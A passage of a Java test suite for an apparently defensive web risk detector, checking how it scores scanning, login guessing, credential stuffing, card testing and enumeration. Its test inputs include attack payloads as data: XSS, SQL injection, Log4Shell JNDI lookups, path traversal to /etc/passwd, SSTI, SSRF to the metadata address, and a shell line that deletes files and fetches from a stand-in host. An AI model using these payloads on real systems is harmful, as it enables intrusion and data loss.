                    "/books?title=Union+Select&page=1 /books?title=Union+Select&page=2 /books?title=Union+Select&page=3",
                    "/run?code=function()+%7B1%7D /run?code=function()+%7B2%7D /run?code=function()+%7B3%7D",
                    "/thumb?src=../../images/a.jpg /thumb?src=../../images/b.jpg /thumb?src=../../images/c.jpg"
                })
        void isNotWhoeverSearchesForAttacks(String paths) {
            for (String path : paths.split(" ")) {
                asks("GET", path, BROWSER, null, 200);
                pause(20);
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        /** In what a search is for, too. */
        @ParameterizedTest
        @ValueSource(
                strings = {
                    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E /?s=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E",
                    "/search?q=1+union+select+null,null /search?q=1'+or+'1'='1",
                    "/search?q=${jndi:ldap://198.51.100.7/a} /search?q=${jndi:dns://198.51.100.7/b}",
                    "/view?file=../../../../etc/passwd /view?file=/etc/passwd",
                    "/item?id=1+and+1=1 /item?id=1'+and+sleep(5)--",
                    "/?name={{7*7}} /fetch?url=http://169.254.169.254/latest",
                    "/?s=/index/%5Cthink%5Capp/invokefunction /?s=/home/%5Cthink%5Capp/invokefunction",
                    "/user/register?element_parents=account/mail/%23value /node?a=1&element_parents=x/%23value"
                })
        void isWhoeverAttacksBySearches(String paths) {
            for (String path : paths.split(" ")) {
                asks("GET", path, BROWSER, "https://shop.example/", 200);
                pause(2);
            }
            assertThat(asks("GET", "/", BROWSER, null, 200)).isEqualTo(RiskAction.CHALLENGE);
        }

        @Test
        void isWhoeverAttacksWhatIsNotThere() {
            asks("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/x", BROWSER, null, 404);
            assertThat(asks("GET", "/", BROWSER, null, 200)).isEqualTo(RiskAction.CHALLENGE);
        }

        /** Names that have to be encoded, links that were cut, what was moved, and what programs of the office look for. */
        @ParameterizedTest
        @CsvSource({
            "'/product/5/100%25-cotton /product/6/50%25-wool /tag/AC%2FDC /tag/TCP%2FIP /browse/%D9%85%D8 /50%-off', 200",
            "'/files/a.zip /files/b.zip /files/c.tar.gz', 404",
            "'/news.php /shop.php /old/page17.php /old/page18.aspx', 404",
            "'/console/ps3 /console/ps4', 404",
            "'/wp-content/uploads/2015/03/slides.pdf /downloads/tool-1.2.zip /wp-content/uploads/a/b.docx', 404",
            "'/autodiscover/autodiscover.xml /Autodiscover/Autodiscover.xml', 404",
            "'/search?q=union+workers+select+committee /search?q=script+for+a+play /go?to=https://x.example/a/../b', 200"
        })
        void isNotWhoeverFollowsOddOrDeadLinks(String paths, int status) {
            for (String path : paths.split(" ")) {
                asks("GET", path, BROWSER, "https://shop.example/", status);
                pause(20);
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        /** A site that moved from WordPress, or from PHP; old bookmarks; programs that go on asking. */
        @ParameterizedTest
        @CsvSource({
            "'/wp-content/uploads/2015/03/slides.pdf /downloads/tool-1.2.zip /old/page.php /console/ps3', true",
            "'/wp-content/plugins/gallery/load.php /wp-content/themes/blue/map.php /wp-json/wp/v2/types', true",
            "'/files/page.php /old/a.php /old/2.php /files/a.zip /tool-1.2.zip /tool-1.3.tar.gz /data/world.sql', false",
            "'/actuator/health /actuator/health /actuator/health /actuator/health', false",
            "'/owa/ /owa/ /owa/ /owa/', false",
            "'/console/ps3 /remote/tv /vpn/prices /containers/20ft /manager/training', false",
            "'/docs/.DS_Store /photos/.DS_Store /notes/.DS_Store', false"
        })
        void isNotWhoeverAsksForWhatWasThereOnce(String paths, boolean linked) {
            for (String path : paths.split(" ")) {
                asks("GET", path, BROWSER, linked ? "https://shop.example/archive" : null, 404);
                pause(20);
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        @Test
        void isNotWhoeverAsksForOnePageThatIsGoneInManyWays() {
            for (int i = 0; i < 18; i++) {
                asks("GET", "/browse/old?page=" + i, BROWSER, "https://shop.example/", 404);
                pause(1 + 4 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        @Test
        void isWhoeverAsksForManyPagesThatAreNotThere() {
            for (int i = 0; i < 14; i++) {
                asks("GET", "/" + (char) ('a' + i), BROWSER, "https://shop.example/", 404);
                pause(1 + 4 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
        }

        @Test
        void isNotTheOwnerOfABlog() {
            for (String path :
                    List.of("/wp-login.php", "/wp-admin/index.php", "/wp-admin/post.php", "/console/", "/a.zip")) {
                asks("GET", path, BROWSER, "https://blog.example/", 200);
                pause(5);
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }
    }

    @Nested
    class ALogin {

        private void tries(@Nullable String user, String name, boolean fails) {
            triesFrom("203.0.113.7", user, name, fails);
            pause(1 + 4 * random.nextDouble());
        }

        private RiskAction triesFrom(String address, @Nullable String user, String name, boolean fails) {
            return happens(
                    "login",
                    new RiskEvent(at(address, user), request("POST", "/login", BROWSER, "https://x/"), name, null),
                    fails ? RiskResult.ofStatus(401) : RiskResult.SUCCESS);
        }

        @Test
        void isGuessedByManyWhoTryOneName() {
            for (int i = 0; i < 300; i++) {
                triesFrom("198." + (18 + i % 2) + "." + i % 250 + ".7", null, "alice", true);
                pause(2 + random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
            assertThat(triesFrom("203.0.113.7", null, "alice", false)).isEqualTo(RiskAction.CHALLENGE);
            assertThat(triesFrom("203.0.113.7", null, "bob", false)).isEqualTo(RiskAction.ALLOW);
        }

        @Test
        void isNotGuessedByWhoMistypesAtHomeAtWorkAndOnTheWay() {
            for (int i = 0; i < 12; i++) {
                triesFrom("198.51.100." + (1 + i % 4), null, "alice", i % 3 != 0);
                pause(120);
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }

        @ParameterizedTest
        @NullSource
        @ValueSource(strings = "mallory")
        void isStuffedEvenByOneWhoIsLoggedIn(String user) {
            for (int i = 0; i < 60; i++) {
                tries(user, "victim-" + i, true);
            }
            assertThat(worst).isGreaterThanOrEqualTo(RiskAction.CHALLENGE);
        }

        @Test
        void isStuffedEvenIfEverySecondOneIsTheAttackersOwn() {
            for (int i = 0; i < 200; i++) {
                tries(null, i % 2 == 0 ? "mallory" : "victim-" + i, i % 2 != 0);
            }
            assertThat(worst).isGreaterThanOrEqualTo(RiskAction.CHALLENGE);
        }

        @Test
        void isGuessedByWhoGetsNothingRight() {
            for (int i = 0; i < 12; i++) {
                tries(null, "victim", true);
            }
            assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
        }

        /** One each two minutes: forty names, all of them wrong. */
        @Test
        void isStuffedSlowlyByOneOfManyAddresses() {
            for (int i = 0; i < 40; i++) {
                tries(null, "victim-" + i, true);
                pause(90 + 90 * random.nextDouble());
            }
            assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
        }

        @Test
        void isNotStuffedByAnOfficeThatMistypes() {
            for (int i = 0; i < 80; i++) {
                while (random.nextInt(6) == 0) {
                    tries(null, "colleague-" + i, true);
                }
                tries(null, "colleague-" + i, false);
            }
            assertThat(worst).isEqualTo(RiskAction.ALLOW);
        }
    }

    @Test
    void differentCardsOfGuestsAtOneAddressAreOneSignal() {
        for (int i = 0; i < 40; i++) {
            happens(
                    "order",
                    new RiskEvent(
                            at("203.0.113.7", null), request("POST", "/pay", BROWSER, "https://x/"), "card-" + i, null),
                    RiskResult.SUCCESS);
            pause(15 + 15 * random.nextDouble());
        }
        assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
    }

    @Test
    void anOfficeThatOrdersIsAskedAndNeverBanned() {
        for (int i = 0; i < 20; i++) {
            happens(
                    "order",
                    new RiskEvent(
                            at("203.0.113.7", "colleague-" + i),
                            request("POST", "/pay", BROWSER, "https://x/"),
                            "card-" + i,
                            null),
                    RiskResult.SUCCESS);
            pause(30);
        }
        assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
    }

    @Test
    void aCardThatIsDeclinedIsOneFactOfAddressAndUser() {
        for (int i = 0; i < 12; i++) {
            happens(
                    "order",
                    new RiskEvent(
                            at("203.0.113.7", "carol"), request("POST", "/pay", BROWSER, "https://x/"), "card", null),
                    RiskResult.FAILURE);
            pause(20 + 5 * random.nextDouble());
        }
        assertThat(worst).isLessThanOrEqualTo(RiskAction.CHALLENGE);
    }

    @Test
    void whoReadsHisOwnNumbersInTheirOrderIsAskedAndNotRefused() {
        for (int i = 0; i < 40; i++) {
            happens(
                    "enumeration",
                    new RiskEvent(
                            at("203.0.113.7", "alice"),
                            request("GET", "/invoices/" + (100 + i), BROWSER, "https://x/"),
                            null,
                            null),
                    RiskResult.SUCCESS);
            pause(10 + 5 * random.nextDouble());
        }
        assertThat(worst).isEqualTo(RiskAction.CHALLENGE);
    }

    @Test
    void differentCouponsOfAGuestAreNotDifferentAccounts() {
        for (int i = 0; i < 40; i++) {
            happens(
                    "coupon",
                    new RiskEvent(
                            at("203.0.113.7", null), request("POST", "/claim", BROWSER, "https://x/"), "c-" + i, null),
                    RiskResult.SUCCESS);
            pause(15 + 15 * random.nextDouble());
        }
        assertThat(worst).isEqualTo(RiskAction.ALLOW);
    }
}
